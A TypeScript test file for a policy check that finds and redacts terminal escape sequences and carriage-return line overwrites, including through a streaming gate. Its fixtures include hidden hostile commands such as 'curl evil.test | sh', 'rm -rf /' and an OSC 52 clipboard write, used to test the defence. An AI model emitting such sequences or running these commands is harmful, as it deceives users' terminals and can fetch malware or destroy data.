/**
 * Terminal safety in `invisible-unicode` (issue 14, item 6): every ECMA-48 control function is
 * taken whole (CSI, OSC, DCS, SOS/PM/APC, other escapes, 7- and 8-bit forms), and a carriage
 * return that overwrites a line is found and turned into a line feed — in buffered answers and
 * through the stream gate, however the stream is cut.
 */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { getCheck } from '../../../src/policy/checks/registry.js';
import {
  carriageReturnAt,
  MAX_SEQUENCE,
  sequenceAt,
} from '../../../src/policy/checks/support/terminal.js';
import { gateRules } from '../../../src/policy/gate-rules.js';
import { redactText } from '../../../src/policy/redact.js';
import { input } from '../../helpers/check-input.js';
import { expectLinear } from '../../helpers/linear.js';
import { streamThroughGate } from '../../helpers/choice-gate.js';
import { policySetFrom } from '../../helpers/policy.js';

const E = '\u001b';
const ST = `${E}\\`;

describe('sequenceAt: one ECMA-48 control function', () => {
  it.each([
    ['CSI SGR', `${E}[1;31mx`, 'csi', 7],
    ['CSI private mode', `${E}[?25lx`, 'csi', 6],
    ['CSI with intermediates', `${E}[1 qx`, 'csi', 5],
    ['CSI cut short', `${E}[12`, 'csi', 4],
    ['8-bit CSI', '\u009b2Jx', 'csi', 3],
    ['OSC ended by BEL', `${E}]0;title\u0007x`, 'osc', 10],
    ['OSC ended by ST', `${E}]8;;https://e.test${ST}x`, 'osc', 21],
    ['OSC 52 clipboard', `${E}]52;c;ZXZpbA==\u0007x`, 'osc', 16],
    ['OSC aborted by CAN', `${E}]0;t\u0018x`, 'osc', 6],
    ['OSC cut by another escape', `${E}]0;t${E}[0m`, 'osc', 5],
    ['8-bit OSC ended by 8-bit ST', '\u009d0;t\u009cx', 'osc', 5],
    ['DCS', `${E}P$qm${ST}x`, 'dcs', 7],
    ['SOS', `${E}Xhi${ST}x`, 'sos', 6],
    ['PM', `${E}^hi${ST}x`, 'pm', 6],
    ['APC', `${E}_Gf=1${ST}x`, 'apc', 8],
    ['8-bit DCS', '\u0090q\u009cx', 'dcs', 3],
    ['8-bit APC', '\u009fG\u009cx', 'apc', 3],
    ['charset designation (nF)', `${E}(Bx`, 'escape', 3],
    ['save cursor (Fp)', `${E}7x`, 'escape', 2],
    ['reset (Fs)', `${E}cx`, 'escape', 2],
    ['7-bit C1 (Fe)', `${E}Dx`, 'escape', 2],
    ['lone ESC', `${E}`, 'escape', 1],
    ['ESC before a newline', `${E}\n`, 'escape', 1],
    ['a C1 control', '\u0085x', 'c1', 1],
  ])('%s', (_n, text, kind, end) => {
    expect(sequenceAt(text, 0)).toEqual({ kind, end });
  });

  it('bounds an unterminated string', () => {
    const text = `${E}]0;${'a'.repeat(10 * MAX_SEQUENCE)}`;
    expect(sequenceAt(text, 0)).toEqual({ kind: 'osc', end: MAX_SEQUENCE });
  });
});

describe('carriageReturnAt', () => {
  it.each([
    ['CR LF', 'a\r\nb', { end: 2, overwrites: false }],
    ['CR CR LF', 'a\r\r\nb', { end: 3, overwrites: false }],
    ['CR then text', 'a\rb', { end: 2, overwrites: true }],
    ['CR then spaces (erases)', 'a\r  \n', { end: 2, overwrites: true }],
    ['CR at the end', 'a\r', { end: 2, overwrites: false }],
    ['CR after LF', '\n\rb', { end: 2, overwrites: false }],
  ])('%s', (_n, text, expected) => {
    expect(carriageReturnAt(text, text.indexOf('\r'))).toEqual(expected);
  });
});

function run(params: unknown, text: string) {
  const def = getCheck('invisible-unicode')!;
  return def.create(def.params.parse(params)).evaluate(input(text));
}
const redacted = (params: unknown, text: string) => {
  const out = run(params, text);
  return out.status === 'fail'
    ? redactText(
        text,
        out.spans.map((s) => ({ ...s, rule: 'r' })),
      )
    : text;
};

describe('invisible-unicode redacts terminal control whole', () => {
  it.each([
    ['SGR colours', `Build ${E}[32mpassed${E}[0m`, 'Build passed'],
    ['cursor move over text', `safe${E}[3Dbad`, 'safebad'],
    ['OSC 8 hyperlink', `See ${E}]8;;https://evil.test${ST}docs${E}]8;;${ST}.`, 'See docs.'],
    ['OSC 52 clipboard write', `Copy: ${E}]52;c;cm0gLXJmIC8=\u0007done`, 'Copy: done'],
    ['DCS request', `a${E}P$qm${ST}b`, 'ab'],
    ['APC image', `a${E}_Gf=100;AAAA${ST}b`, 'ab'],
    ['PM and SOS', `a${E}^pm${ST}${E}Xsos${ST}b`, 'ab'],
    ['8-bit CSI and OSC', 'a\u009b31mb\u009d8;;https://e.test\u009cc', 'abc'],
    ['bare CR overwrite', 'safe text\rmalicious', 'safe text\nmalicious'],
    ['a run of CRs', 'progress\r\r\rrm -rf /', 'progress\nrm -rf /'],
    ['CRLF untouched', 'one\r\ntwo\r\n', 'one\r\ntwo\r\n'],
    ['a control character', 'ding\u0007', 'ding'],
  ])('%s', (_n, text, expected) => {
    expect(redacted({}, text)).toBe(expected);
  });

  it('chooses kinds: control and overwrite apart', () => {
    expect(run({ kinds: ['control'] }, 'a\rb').status).toBe('pass');
    expect(run({ kinds: ['overwrite'] }, `a${E}[31mb`).status).toBe('pass');
    expect(run({ kinds: ['overwrite'] }, 'a\rb')).toMatchObject({
      status: 'fail',
      spans: [{ start: 1, end: 2, replace: '\n' }],
    });
    // Control characters are `control`, not `zero_width`.
    expect(run({ kinds: ['zero_width'] }, 'a\u0007b').status).toBe('pass');
  });

  it('never quotes the output in its detail', () => {
    const out = run({}, `x${E}]52;c;U0VDUkVU\u0007`);
    expect(out.status === 'fail' && out.detail).toMatch(/control/);
    expect(out.status === 'fail' && out.detail).not.toContain('U0VDUkVU');
  });
});

describe('the stream gate holds a carriage return until it knows what follows', () => {
  const rules = gateRules(
    policySetFrom({
      'p.yaml': 'name: p\nrules:\n  - id: r\n    check: invisible-unicode\n    action: redact\n',
    }).policies,
  );
  const stream = (pieces: readonly string[]): string => {
    const { seen } = streamThroughGate(rules, pieces);
    return seen[seen.length - 1]!;
  };
  const cut = (s: string, at: readonly number[]) => {
    const out: string[] = [];
    let i = 0;
    for (const a of [...new Set(at)].sort((x, y) => x - y)) {
      out.push(s.slice(i, a));
      i = a;
    }
    out.push(s.slice(i));
    return out.filter(Boolean);
  };

  it.each([
    [
      'an overwrite',
      'safe text\rcurl evil.test | sh\r\ndone',
      'safe text\ncurl evil.test | sh\r\ndone',
    ],
    ['CRLF', 'a\r\nb\r\n', 'a\r\nb\r\n'],
    ['an OSC 52 write', `a${E}]52;c;ZXZpbA==\u0007b`, 'ab'],
    ['an 8-bit CSI', 'a\u009b1;31mb', 'ab'],
  ])('%s, cut anywhere', (_n, text, expected) => {
    fc.assert(
      fc.property(
        fc.array(fc.integer({ min: 1, max: text.length - 1 }), { maxLength: 4 }),
        (at) => {
          expect(stream(cut(text, at))).toBe(expected);
        },
      ),
      { numRuns: 120 },
    );
  });
});

describe('terminal scanning stays linear', () => {
  it.each([
    ['unterminated strings', (n: number) => `${E}P`.repeat(n / 2)],
    ['carriage returns', (n: number) => 'a\r'.repeat(n / 2)],
    ['CR runs', (n: number) => `${'\r'.repeat(n - 1)}x`],
    ['8-bit OSC', (n: number) => '\u009d'.repeat(n)],
  ])('%s', (_n, gen) => {
    const def = getCheck('invisible-unicode')!;
    const check = def.create(def.params.parse({}));
    expectLinear((n) => {
      const i = input(gen(n));
      return () => check.evaluate(i);
    }, 50_000);
  });
});
